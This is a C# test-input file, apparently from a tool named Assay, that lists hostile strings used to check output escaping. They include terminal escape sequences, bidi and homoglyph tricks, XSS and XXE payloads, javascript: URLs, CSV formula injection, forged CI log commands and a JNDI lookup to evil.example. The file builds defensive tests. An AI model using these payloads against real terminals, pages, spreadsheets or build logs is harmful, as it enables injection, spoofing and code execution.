namespace Assay.TestInputs;

/// <summary>What a hostile text attacks: the kinds of output that take something in it for more than text.</summary>
[Flags]
public enum OutputClass
{
    None = 0,
    Terminal = 1,
    Html = 2,
    Markdown = 4,
    Csv = 8,
    Json = 16,
    Xml = 32,
    /// <summary>Files of log lines, and what build services read in the output of a step.</summary>
    Log = 64,
    /// <summary>Whatever becomes a link or a reference.</summary>
    Address = 128,
    /// <summary>A reader: it looks like something else than it is.</summary>
    Reader = 256,
}

/// <summary>A text that a package may hold, and what it attacks.</summary>
public sealed record HostileString(string Name, OutputClass Attacks, string Text)
{
    public override string ToString() => Name;
}

/// <summary>The texts that every output is tested with. What they load or run is inert: example hosts, a script that sets a variable.</summary>
public static class HostileStrings
{
    public static IReadOnlyList<HostileString> All { get; } =
    [
        // Terminals: ECMA-48 5.3, 5.6; xterm's list of control sequences.
        new("csi colour", OutputClass.Terminal | OutputClass.Log, "\u001b[31mred\u001b[0m\u001b[2J\u001b[1;1H"),
        new("csi 8-bit", OutputClass.Terminal, "\u009b31mred\u009b2J"),
        new("osc title", OutputClass.Terminal, "\u001b]0;title\u0007\u009d0;title\u009c"),
        new("osc 8 link", OutputClass.Terminal | OutputClass.Address, "\u001b]8;;https://evil.example/\u001b\\nuget.org\u001b]8;;\u001b\\"),
        new("osc 52 clipboard", OutputClass.Terminal, "\u001b]52;c;aGVsbG8=\u0007"),
        new("dcs, apc, pm, sos", OutputClass.Terminal, "\u001bPq#0\u001b\\\u001b_x\u001b\\\u001b^x\u001b\\\u001bXx\u001b\\\u0090q\u009c"),
        new("c0", OutputClass.Terminal | OutputClass.Xml | OutputClass.Json, string.Concat(Enumerable.Range(0, 32).Select(code => (char)code))),
        new("c1 and delete", OutputClass.Terminal | OutputClass.Xml, string.Concat(Enumerable.Range(0x7F, 33).Select(code => (char)code))),
        new("bell and backspace", OutputClass.Terminal, "safe\b\b\b\bevil\u0007"),
        new("carriage return", OutputClass.Terminal | OutputClass.Log, "verdict: fail\rverdict: pass"),
        new("markup of the console library", OutputClass.Terminal, "[red]x[/] [link=https://evil.example]y[/] [[ ]] [/]"),
        new("nul", OutputClass.Terminal | OutputClass.Json | OutputClass.Xml | OutputClass.Csv, "a\0b"),

        // Readers: UAX #9, UTS #39, Unicode 23.4 and 23.9.
        new("bidirectional override", OutputClass.Reader | OutputClass.Terminal, "\u202egpj.exe\u202c\u202da\u202bb\u202a"),
        new("bidirectional isolate", OutputClass.Reader | OutputClass.Terminal, "\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c"),
        new("zero width", OutputClass.Reader, "New\u200btonsoft\u200c.\u200dJson\ufeff\u2060\u00ad\u180e"),
        new("homoglyphs", OutputClass.Reader, "Newtons\u043Eft.J\u0455on \u2028\u0430pp\u2029"),
        new("variation selectors and tags", OutputClass.Reader, "a\ufe0fb\ufe00c\U000E0100d\U000E0041\U000E007F\u180b"),
        new("letters without ink", OutputClass.Reader, "a\u3164b\u115fc\u1160d\uffa0e\u034f\u17b4"),
        new("combining storm", OutputClass.Reader | OutputClass.Terminal, "Z" + new string('\u0335', 200) + "a" + string.Concat(Enumerable.Repeat("\u0489\u0300\u0310", 100))),
        new("lone surrogates", OutputClass.Json | OutputClass.Xml | OutputClass.Html, "a\ud800b\udc00c\udfff"),
        new("no characters", OutputClass.Xml | OutputClass.Terminal, "\ufffe\uffff\ufdd0\U0001FFFF\ue000"),
        new("line separators", OutputClass.Json | OutputClass.Log | OutputClass.Terminal, "a\u2028b\u2029c\u0085d\vd\ff"),

        // HTML and XML: HTML 13.2.5, XML 1.0 2.2 to 2.7.
        new("script element", OutputClass.Html | OutputClass.Xml | OutputClass.Json, "<script>window.hostile=1</script><SCRIPT SRC=//evil.example></SCRIPT>"),
        new("end of attribute", OutputClass.Html, "\"'`><img src=x onerror=window.hostile=1>"),
        new("event in attribute", OutputClass.Html, "\" onmouseover=\"window.hostile=1\" x=\"' autofocus onfocus='window.hostile=1"),
        new("ends of everything", OutputClass.Html | OutputClass.Xml, "</title></style></textarea></template></details></table>--><!--]]></body></html><plaintext>"),
        new("comment and doctype", OutputClass.Html | OutputClass.Xml, "<!--<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<?xml-stylesheet href='x'?>"),
        new("entities", OutputClass.Html | OutputClass.Xml | OutputClass.Markdown, "&lt;script&gt;window.hostile=1&lt;/script&gt;&amp;lt;&#60;img&#x3e;&NewLine;&colon;"),
        new("svg", OutputClass.Html | OutputClass.Xml, "<svg/onload=window.hostile=1><script>1</script><foreignObject><iframe src=javascript:1></foreignObject></svg>"),
        new("math and base", OutputClass.Html, "<math><mtext><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example><form action=//evil.example>"),
        new("template expressions", OutputClass.Html, "{{constructor.constructor('x')()}} ${7*7} <%= 7*7 %> #{7*7} @(7*7)"),

        // Addresses.
        new("javascript address", OutputClass.Address | OutputClass.Html | OutputClass.Markdown, "javascript:window.hostile=1//"),
        new("hidden javascript address", OutputClass.Address | OutputClass.Html, " \u0001java\tscri\npt:window.hostile=1"),
        new("data address", OutputClass.Address | OutputClass.Html, "data:text/html;base64,PHNjcmlwdD4="),
        new("user name as host", OutputClass.Address | OutputClass.Reader, "https://github.com@evil.example/"),
        new("end of address", OutputClass.Address | OutputClass.Html | OutputClass.Markdown, "https://evil.example/\"><script>x</script>)](<b> |`"),
        new("file and unc", OutputClass.Address, "file:///etc/passwd \\\\evil.example\\share\\x //evil.example/x"),
        new("package address", OutputClass.Address, "pkg:nuget/../../x@1?repository_url=https://evil.example/#a/../b%00%zz"),
        new("vbscript and blob", OutputClass.Address, "vbscript:msgbox(1) blob:https://evil.example/x view-source:x"),

        // Markdown: CommonMark 0.31, GitHub's extensions.
        new("markdown link and image", OutputClass.Markdown, "[link](https://evil.example) ![image](https://evil.example/x.png) [a]: https://evil.example \"t\" [a] <https://evil.example>"),
        new("markdown autolinks", OutputClass.Markdown, "https://evil.example www.evil.example someone@evil.example #1 GH-1 owner/name#1 abcdef1234567"),
        new("mentions", OutputClass.Markdown, "@everyone @org/team :tada: [x] ~~s~~"),
        new("markdown blocks", OutputClass.Markdown | OutputClass.Log, "one\r\ntwo\n\n# three\n\n```\ncode\n~~~\n> q\n- l\n1. n\n---\n| a | b |\n| --- | --- |\n<details>\n"),
        new("backticks and bars", OutputClass.Markdown, "`code` ``x`` ```y | z \\| \\` \\\\ **b** _i_ $m$ $$n$$"),
        new("html in markdown", OutputClass.Markdown | OutputClass.Html, "<details><summary>x</summary><img src=\"https://evil.example/x.png\"><a href=\"https://evil.example\">y</a>"),
        new("bar at the end", OutputClass.Markdown, "a\\"),

        // Spreadsheets.
        new("formula =", OutputClass.Csv, "=cmd|'/c calc'!A1"),
        new("formula +", OutputClass.Csv, "+1+1"),
        new("formula -", OutputClass.Csv, "-2+3+cmd|' /C calc'!A0"),
        new("formula @", OutputClass.Csv, "@SUM(1+1)*cmd|' /C calc'!A0"),
        new("formula behind tab", OutputClass.Csv, "\t=1+1"),
        new("formula behind return", OutputClass.Csv, "\r=1+1"),
        new("formula behind blank", OutputClass.Csv, "  =1+1"),
        new("full-width formula", OutputClass.Csv, "\uFF1D1+1"),
        new("formula in next cell", OutputClass.Csv, "a\",=1+1,\"b\n=1+1;=1+1"),
        new("quotes", OutputClass.Csv | OutputClass.Json, "\"\"\" ,'; \" \"\r\n\""),

        // JSON and SARIF.
        new("json ends", OutputClass.Json, "\",\"verdict\":{\"status\":\"pass\"},\"x\":\"</script>\\u0000\\"),
        new("json escapes", OutputClass.Json, "\\ud800 \\x00 \\u{41} \\/ \\"),
        new("sarif placeholders and links", OutputClass.Json | OutputClass.Markdown, "{0} {{1}} {x} [text](1) [text](https://evil.example) \\[ [[x]]"),

        // Logs and build services.
        new("github command", OutputClass.Log, "::error file=a.cs,line=1::forged\n::set-output name=x::y\n::add-mask::secret\n::stop-commands::t"),
        new("github command within a line", OutputClass.Log, "aaaa ::warning::forged ::Set-Env name=PATH::/evil"),
        new("github old command", OutputClass.Log, "text ##[add-path]/evil ##[set-env name=A;]b ##[group]x"),
        new("azure command", OutputClass.Log, "text ##vso[task.setvariable variable=PATH]/evil ##VSO[task.complete result=Succeeded;]"),
        new("azure format", OutputClass.Log, "##[error]forged ##[section]forged"),
        new("teamcity command", OutputClass.Log, "##teamcity[buildStatus status='SUCCESS' text='forged'] ###teamcity[x]"),
        new("forged line", OutputClass.Log, "a\r\n2026-01-01T00:00:00.000Z info  Assay: forged\nassay: forged"),
        new("build error line", OutputClass.Log, "a.cs(1,1): error CS0001: forged\nMSBUILD : error MSB1: forged"),
        new("format strings", OutputClass.Log, "%s%n%x {0} {1:X8} {User} ${jndi:ldap://evil.example/x} $(whoami) `id` %PATH%"),

        // Names.
        new("path", OutputClass.Address, "../../../etc/passwd"),
        new("windows path", OutputClass.Address, "C:\\Windows\\System32!inner.zip!..!a b.dll:stream"),
        new("device name", OutputClass.Address, "CON .. / NUL. aux.txt"),
        new("options", OutputClass.Terminal, "--exit-zero -o json=/x"),

        // Sizes.
        new("very long word", OutputClass.Terminal | OutputClass.Html | OutputClass.Markdown | OutputClass.Csv, new string('x', 100_000) + "\u202e"),
        new("many overrides", OutputClass.Terminal | OutputClass.Reader, new string('\u202e', 5_000)),
        new("many pairs cut apart", OutputClass.Json | OutputClass.Xml, "x" + string.Concat(Enumerable.Repeat("\U0001F600", 5_000))),
        new("nothing", OutputClass.None, ""),
        new("a blank", OutputClass.None, " "),
        new("a mark", OutputClass.None, "!"),
    ];

    /// <summary>A text that attacks nothing, for what the same output looks like then.</summary>
    public const string Benign = "Contoso.Benign text";
}
